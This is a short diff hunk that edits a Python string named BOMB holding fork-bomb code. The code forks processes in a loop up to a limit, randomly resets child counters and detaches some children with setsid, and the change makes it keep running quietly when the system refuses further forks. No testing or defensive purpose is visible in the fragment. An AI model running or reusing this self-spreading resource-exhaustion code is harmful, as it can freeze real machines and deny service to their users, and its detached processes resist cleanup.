@@ -238,7 +238,11 @@ BOMB = """
 import os, time
 made = 0
 while made < 6 and len(os.listdir("/proc")) < LIMIT:
-    if os.fork() == 0:
+    try:
+        child = os.fork()
+    except OSError:  # this machine allows no more; the others of us are enough
+        break
+    if child == 0:
         made = 0 if os.urandom(1)[0] % 3 else made + 1
         if os.urandom(1)[0] % 4 == 0:
             os.setsid()
